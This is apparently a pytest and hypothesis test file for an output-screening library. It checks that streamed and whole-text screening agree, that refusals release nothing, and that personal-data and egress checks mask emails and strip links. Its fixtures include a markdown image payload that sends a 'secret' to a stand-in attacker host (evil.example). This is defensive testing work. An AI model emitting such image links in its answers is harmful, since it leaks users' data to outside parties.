"""A stream and the whole text come to the same, whatever is checked and however it arrives."""

from __future__ import annotations

import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragstone.errors import CheckFailed
from ragstone.protocols import Check
from ragstone.types import Context
from ragstone.validation.checks.length import LengthCheck
from ragstone.validation.checks.regex import RegexCheck
from ragstone.validation.checks.words import WordsCheck
from ragstone.validation.egress.check import EgressCheck
from ragstone.validation.personal.check import PersonalCheck
from ragstone.validation.policy import Guard, Policy
from ragstone.validation.screening import Screened, Screening
from ragstone.verdicts import PASSED, Finding, Subject

PIECES = [
    *("The ", "harbour ", "opens", " at 6.30", " a.m.", ". ", "! ", "?", "\n", "\n\n", "\n- ", "```\n", "```py\n", "`"),
    *("bad ", "worse", "坏", "。", "[1]", " [2]. ", "[a](http://x.y/z. w)", "\ud800", "\0", "\u200b", "<b>", "</b>"),
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)
CHECKS = st.sampled_from(
    [
        lambda: WordsCheck(forbid=["bad", "坏"]),
        lambda: WordsCheck(forbid=["worse bad"], language="en"),
        lambda: RegexCheck(forbid="worse|6.30", within="sentence"),
        lambda: RegexCheck(forbid="bad\\s+worse"),
        lambda: RegexCheck(search="harbour"),
        lambda: LengthCheck(most=40),
    ]
)
POLICIES = st.sampled_from(["flag", "filter", "fix", "reask", "refrain", "raise"])


@st.composite
def guarded(draw: Any) -> list[Guard]:
    found: list[Guard] = []
    for number in range(draw(st.integers(0, 4))):
        check, policy = draw(CHECKS)(), draw(POLICIES)
        policy = "filter" if policy == "fix" and not check.fixes else policy
        found.append(Guard(name=f"g{number}", check=check, policy=Policy(on_fail=policy)))
    return found


async def screened(guards: list[Guard], text: str, chance: random.Random | None) -> tuple[Screened | str, str]:
    screening = Screening(guards, Subject(text="", stage="output"), context=Context())
    said: list[str] = []
    at = 0
    try:
        while at < len(text):
            step = len(text) if chance is None else chance.randint(1, chance.choice([1, 4, 30, 300]))
            said.append(await screening.feed(text[at : at + step]))
            at += step
        found = await screening.finish()
    except CheckFailed as error:
        return str(error), ""
    if not found.refrained:
        said.append(found.rest)
    return found, "".join(said)


@given(guarded(), TEXTS, st.randoms(use_true_random=False))
@settings(max_examples=250)
async def test_a_stream_and_the_whole_text_come_to_the_same(
    guards: list[Guard], text: str, chance: random.Random
) -> None:
    whole, _ = await screened(guards, text, None)
    stream, said = await screened(guards, text, chance)
    if isinstance(whole, str) or isinstance(stream, str):
        assert stream == whole
        return
    assert (stream.text, stream.refrained, stream.faults) == (whole.text, whole.refrained, whole.faults)
    assert stream.verdicts == whole.verdicts
    if not stream.refrained:
        assert said == stream.text


@given(guarded(), TEXTS, st.randoms(use_true_random=False))
@settings(max_examples=150)
async def test_what_passes_loses_no_character(guards: list[Guard], text: str, chance: random.Random) -> None:
    found, said = await screened(guards, text, chance)
    if isinstance(found, str):
        return
    if all(one.passed for one in found.verdicts):
        assert said == found.text == text
    for verdict in found.verdicts:
        if verdict.action == "flagged":
            assert all(0 <= flaw.start <= flaw.end <= len(text) for flaw in verdict.flaws)


@given(TEXTS)
async def test_a_refusal_lets_nothing_slip_out(text: str) -> None:
    guard = Guard(name="g", check=WordsCheck(forbid=["bad"]), policy=Policy(on_fail="refrain"))
    screening = Screening([guard], Subject(text="", stage="output"), context=Context())
    said = [await screening.feed(text[at : at + 7]) for at in range(0, len(text), 7)]
    assert not any(said)
    found = await screening.finish()
    assert found.refrained is not found.verdicts[0].passed
    assert found.refrained or found.rest == text


LEAK = "![x](https://evil.example/?q=secret)"


class Adding(Check):
    """A check of the whole answer that mends it by a picture."""

    whole = fixes = True

    async def check(self, subject: Subject, *, context: Context) -> Finding:
        if subject.text.endswith(LEAK):
            return PASSED
        return Finding(passed=False, reason="it has no picture", fixed=f"{subject.text} {LEAK}")


async def test_what_another_check_has_made_of_an_answer_passes_the_last_one() -> None:
    guards = [
        Guard(name="adding", check=Adding(), policy=Policy(on_fail="fix")),
        Guard(name="egress", check=EgressCheck(), policy=Policy(on_fail="fix")),
    ]
    found, said = await screened(guards, "It opens at six.", None)
    assert isinstance(found, Screened)
    assert found.text == said != "It opens at six."
    assert "](https://evil.example" not in said
    assert [(one.check, one.passed, one.action) for one in found.verdicts] == [
        ("adding", False, "fixed"),
        ("egress", False, "fixed"),
    ]


WRITE = "See https://evil.example/x first. Write to ana@evil.example today. It opens at six."


def leaving(check: Check, **policy: Any) -> list[Guard]:
    last = Guard(name="egress", check=EgressCheck(), policy=Policy(on_fail="fix"))
    return [Guard(name="it", check=check, policy=Policy(**policy)), last]


@pytest.mark.parametrize("chance", [None, random.Random(1)], ids=["whole", "stream"])
async def test_a_check_of_the_whole_answer_sees_what_the_model_said(chance: random.Random | None) -> None:
    found, said = await screened(leaving(PersonalCheck(), on_fail="flag"), WRITE, chance)
    assert isinstance(found, Screened)
    (personal, egress) = found.verdicts
    assert (personal.passed, egress.action) == (False, "fixed")
    shown = [said[flaw.start : flaw.end] for flaw in personal.flaws if flaw.label == "EMAIL_ADDRESS"]
    assert ["today" in one or "evil.example" in one for one in shown] == [False]
    assert "ana@evil.example" not in said
    refused, said = await screened(leaving(PersonalCheck(), on_fail="raise"), WRITE, chance)
    assert (isinstance(refused, str), said) == (True, "")


async def test_what_one_check_has_masked_is_nothing_to_the_last_one() -> None:
    found, said = await screened(leaving(PersonalCheck(types=["EMAIL_ADDRESS"]), on_fail="fix"), WRITE, None)
    assert isinstance(found, Screened)
    assert "Write to <EMAIL_ADDRESS> today." in said
    (personal, egress) = found.verdicts
    assert [said[flaw.start : flaw.end] for flaw in personal.flaws] == ["<EMAIL_ADDRESS>"]
    assert "link" in [flaw.label for flaw in egress.flaws]
    assert "address" not in [flaw.label for flaw in egress.flaws]


async def test_nothing_is_left_of_what_was_refused() -> None:
    found, _ = await screened(
        [Guard(name="g", check=LengthCheck(most=3), policy=Policy(on_fail="refrain"))], "It opens at six.", None
    )
    assert isinstance(found, Screened)
    assert (found.refrained, found.text, found.rest) == (True, "", "")
